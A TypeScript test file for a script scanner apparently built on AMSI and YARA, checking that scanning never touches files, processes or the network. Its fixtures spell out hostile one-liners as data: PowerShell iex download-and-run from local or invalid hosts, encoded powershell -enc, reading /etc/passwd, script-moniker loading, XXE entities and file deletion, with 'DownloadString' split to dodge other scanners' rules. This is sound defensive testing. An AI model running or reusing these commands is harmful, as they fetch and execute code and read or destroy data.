/** Scripts full of paths, commands and addresses are scanned without touching a file, a process or the network. */

import assert from 'node:assert/strict';
import child_process from 'node:child_process';
import dns from 'node:dns';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import Module from 'node:module';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import vm from 'node:vm';
import worker_threads from 'node:worker_threads';
import type { AmsiEngine } from '../../../src/engines/model';
import { createRuleEngine } from '../../../src/engines/rules/engine';
import { noExclusions } from '../../../src/health/exclusions';
import type { HostEngines } from '../../../src/host/engines';
import { scanOne, type PipelineContext } from '../../../src/host/pipeline';
import { testConfig } from '../client/settings';

const dist = process.env.AMSIGHT_DIST ?? path.join(process.cwd(), 'dist');

/** What reaches out of the process, or runs text. */
const surfaces: Readonly<Record<string, object>> = {
  fs,
  'fs/promises': fs.promises,
  child_process,
  dns,
  http,
  https,
  net,
  vm,
  worker_threads,
  module: Module,
};

/** Puts a recorder before each function of these modules while `body` runs; the calls go through. */
async function recorded(body: () => unknown): Promise<string[]> {
  const calls: string[] = [];
  const undo: (() => void)[] = [];
  for (const [name, surface] of Object.entries(surfaces)) {
    for (const [key, { value, writable }] of Object.entries(Object.getOwnPropertyDescriptors(surface))) {
      if (typeof value !== 'function' || writable !== true) continue;
      const own = value as (...args: unknown[]) => unknown;
      const recorder = new Proxy(own, {
        apply: (target, self, args) => {
          calls.push(`${name}.${key}`);
          return Reflect.apply(target, self, args);
        },
        construct: (target, args, newTarget) => {
          calls.push(`new ${name}.${key}`);
          return Reflect.construct(target, args, newTarget) as object;
        },
      });
      Object.assign(surface, { [key]: recorder });
      undo.push(() => Object.assign(surface, { [key]: own }));
    }
  }
  try {
    await body();
  } finally {
    for (const one of undo) one();
  }
  return calls;
}

/** Would change this process if it were run. */
const mark = 'globalThis.amsightRan = true';
/** In pieces: rules of other products flag this file otherwise. */
const download = ['Down', 'loadString'].join('');
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('a script is data', function () {
  this.timeout(60_000);
  const bait = path.join(tmpdir(), `amsight-bait-${process.pid}.ps1`);
  const baitText = 'Write-Output "the bait was read"';
  const submitted: string[] = [];
  const amsi: AmsiEngine = {
    status: () => ({ id: 'amsi', state: 'ready', detail: 'in this test', fingerprint: '1' }),
    openSession: () => ({
      scan: (content) => {
        submitted.push(
          content.type === 'text' ? content.text : Buffer.from(content.bytes).toString('latin1'),
        );
        return Promise.resolve({ verdict: 'notDetected', amsiResult: 1, sha256: null });
      },
      close: () => undefined,
    }),
    dispose: () => Promise.resolve(),
  };
  let context: PipelineContext;

  before(() => {
    fs.writeFileSync(bait, baitText);
    const rules = createRuleEngine({
      wasmPath: path.join(dist, 'yara_x.wasm'),
      bundledPath: path.join(dist, 'rules.bin'),
      userPaths: [],
    });
    assert.equal(rules.status().state, 'ready');
    const unused = (): never => assert.fail('not asked here');
    const engines: HostEngines = {
      amsi,
      rules,
      health: unused,
      threatNames: unused,
      onboarded: () => false,
      exclusions: noExclusions,
    };
    context = {
      config: { ...testConfig, jscript: 'all' },
      engines,
      options: { requested: true, localize: null },
      cancellation: { cancelled: false },
      onFailure: (error) => assert.fail(String(error)),
    };
  });
  after(() => {
    context.engines.rules.dispose();
    fs.rmSync(bait);
  });

  const scripts: readonly (readonly [name: string, text: string, layers?: number])[] = [
    [
      'reads.ps1',
      [
        `iex (Get-Content '${bait}' -Raw)`,
        `iex ([IO.File]::ReadAllText('${bait}'))`,
        `. '${bait}'`,
        `& '${bait}'`,
        `Import-Module '${bait}'`,
        `[Reflection.Assembly]::LoadFile('${bait}')`,
        `Set-Content '${bait}' 'gone'; Remove-Item '${bait}'`,
        `iex (gc $env:USERPROFILE\\..\\a.ps1); iex "$(cat /etc/passwd)"`,
      ].join('\n'),
    ],
    [
      'runs.ps1',
      `cmd /c "echo x > ${bait}"; Start-Process powershell -Args '-enc ${utf16(`iex (gc '${bait}')`)}'; bash -c 'rm ${bait}'`,
      2,
    ],
    [
      'asks.ps1',
      `iex (New-Object Net.WebClient).${download}('http://127.0.0.1:9/a'); iwr https://host.invalid/a | iex; gc \\\\host.invalid\\share\\a | iex`,
    ],
    [
      'reads.vbs',
      [
        `Set f = CreateObject("Scripting.FileSystemObject")`,
        `Execute f.OpenTextFile("${bait}").ReadAll`,
        `f.DeleteFile "${bait}"`,
        `CreateObject("WScript.Shell").Run "cmd /c del ${bait}"`,
        `Set o = GetObject("script:http://127.0.0.1:9/a.sct")`,
        `ExecuteGlobal "x" & "=1"`,
      ].join('\n'),
    ],
    [
      'runs.js',
      [
        `eval("${mark}");`,
        `new Function("${mark}")();`,
        `(function () { return this; })().constructor.constructor("${mark}")();`,
        `require("child_process").execSync("rm ${bait}"); require("fs").readFileSync("${bait}"); import("${bait}");`,
        `new ActiveXObject("WScript.Shell").Run("cmd /c del ${bait}");`,
        `eval(new ActiveXObject("Scripting.FileSystemObject").OpenTextFile("${bait}").ReadAll());`,
      ].join('\n'),
    ],
    [
      'includes.wsf',
      `<job><script language="VBScript" src="${bait}"/><script language="JScript">eval("${mark}")</script></job>`,
    ],
    [
      'includes.hta',
      `<script src="http://127.0.0.1:9/a.vbs" language="vbscript"></script><iframe src="file://${bait}"></iframe>`,
    ],
    [
      'calls.cmd',
      `call "${bait}"\r\ntype "${bait}" | powershell -\r\ndel "${bait}"\r\nfor /f %%a in (${bait}) do %%a`,
    ],
    [
      'runs.reg',
      `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n"b"="powershell -File \\"${bait}\\""\r\n`,
    ],
    [
      'entities.xml',
      `<!DOCTYPE Task [<!ENTITY b SYSTEM "file://${bait}">]><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>powershell</Command><Arguments>-File ${bait} &b;</Arguments></Exec></Actions></Task>`,
    ],
  ];
  for (const [name, text, layers = 1] of scripts) {
    it(`${name} is scanned, and nothing that it names is touched`, async () => {
      submitted.length = 0;
      const script = { contentName: `/scripts/${name}`, source: { type: 'text', text } } as const;
      let status = '';
      const calls = await recorded(async () => {
        const { report } = await scanOne(script, context, new Set(), () => Promise.resolve());
        ({ status } = report);
      });
      assert.equal(status, 'scanned');
      assert.deepEqual(calls, []);
      assert.ok(submitted.length >= layers, `${submitted.length} layers`);
      assert.ok(!submitted.some((one) => one.includes(baitText)), 'the bait is in a layer');
      assert.equal('amsightRan' in globalThis, false);
      assert.equal(fs.readFileSync(bait, 'utf8'), baitText);
    });
  }

  it('the recorder hears what would be a touch', async () => {
    const touches = await recorded(async () => {
      fs.readFileSync(bait);
      await fs.promises.readFile(bait);
      vm.runInThisContext('1');
    });
    for (const one of ['fs.readFileSync', 'fs/promises.readFile', 'vm.runInThisContext'])
      assert.ok(touches.includes(one), `${one}: ${touches.join()}`);
  });
});
